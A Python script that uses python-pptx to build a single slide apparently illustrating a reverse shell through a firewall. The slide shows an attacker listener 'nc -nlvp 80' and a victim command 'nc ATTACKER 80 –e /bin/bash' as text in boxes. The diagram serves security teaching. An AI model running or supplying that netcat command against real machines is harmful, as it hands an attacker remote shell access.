
from dataclasses import dataclass

from lxml import etree
from pptx import Presentation
from pptx.dml.color import RGBColor
from pptx.enum.shapes import MSO_CONNECTOR, MSO_SHAPE
from pptx.enum.text import MSO_ANCHOR, PP_ALIGN
from pptx.oxml import parse_xml
from pptx.oxml.ns import nsdecls, qn
from pptx.util import Cm, Pt

RECT = MSO_SHAPE.RECTANGLE
STRAIGHT = MSO_CONNECTOR.STRAIGHT
CENTER = PP_ALIGN.CENTER
MIDDLE = MSO_ANCHOR.MIDDLE

TOP, SIDE = 6.14, 5.5
STOPS = ((0, "9C2F2D"), (80, "CB3E3A"), (100, "CE3B37"))


@dataclass
class Box:
    left: float
    title: str
    code: str = ""


@dataclass
class Arrow:
    start: float
    end: float
    y: float


BOXES = (
    Box(2.12, "Attacker Machine", "nc -nlvp 80"),
    Box(10.16, "Firewall"),
    Box(17.99, "Victim Machine", "nc ATTACKER 80 \v–e /bin/bash"),
)
ARROW = Arrow(17.78, 7.41, 7.2)


def color(code: str) -> RGBColor:
    return RGBColor.from_string(code)


def shade(item, dist: float, alpha: int) -> None:
    item._element.spPr.append(parse_xml(
        f'<a:effectLst {nsdecls("a")}><a:outerShdw blurRad="{Pt(3.1)}" '
        f'dist="{Pt(dist)}" dir="5400000" rotWithShape="0">'
        f'<a:srgbClr val="000000"><a:alpha val="{alpha * 1000}"/></a:srgbClr>'
        '</a:outerShdw></a:effectLst>'))


def blend(shape) -> None:
    stops = "".join(
        f'<a:gs pos="{pos * 1000}"><a:srgbClr val="{code}"/></a:gs>'
        for pos, code in STOPS)
    shape._element.spPr.insert(2, parse_xml(
        f'<a:gradFill {nsdecls("a")} rotWithShape="1"><a:gsLst>{stops}</a:gsLst>'
        '<a:lin ang="16200000" scaled="0"/></a:gradFill>'))


def style(para, bold: bool) -> None:
    para.alignment = CENTER
    para.font.name = "Calibri"
    para.font.size = Pt(18)
    para.font.bold = bold
    para.font.color.rgb = color("FFFFFF")


def draw_box(slide, box: Box) -> None:
    shape = slide.shapes.add_shape(
        RECT, Cm(box.left), Cm(TOP), Cm(SIDE), Cm(SIDE))
    blend(shape)
    shape.line.color.rgb = color("BF4C48")
    shape.line.width = Pt(0.75)
    shade(shape, 1.8, 35)
    frame = shape.text_frame
    frame.word_wrap = True
    frame.vertical_anchor = MIDDLE
    title = frame.paragraphs[0]
    title.text = box.title
    style(title, True)
    if box.code:
        code = frame.add_paragraph()
        code.text = box.code
        code.space_before = Pt(22)
        style(code, False)


def draw_arrow(slide, arrow: Arrow) -> None:
    line = slide.shapes.add_connector(
        STRAIGHT, Cm(arrow.start), Cm(arrow.y), Cm(arrow.end), Cm(arrow.y))
    line.line.color.rgb = color("560F11")
    line.line.width = Pt(6)
    etree.SubElement(line.line._get_or_add_ln(), qn("a:tailEnd"), type="arrow")
    shade(line, 1.6, 38)


def main() -> None:
    deck = Presentation()
    deck.slide_width, deck.slide_height = Cm(25.4), Cm(19.05)
    slide = deck.slides.add_slide(deck.slide_layouts[6])
    for box in BOXES:
        draw_box(slide, box)
    draw_arrow(slide, ARROW)
    deck.save("out.pptx")


if __name__ == "__main__":
    main()
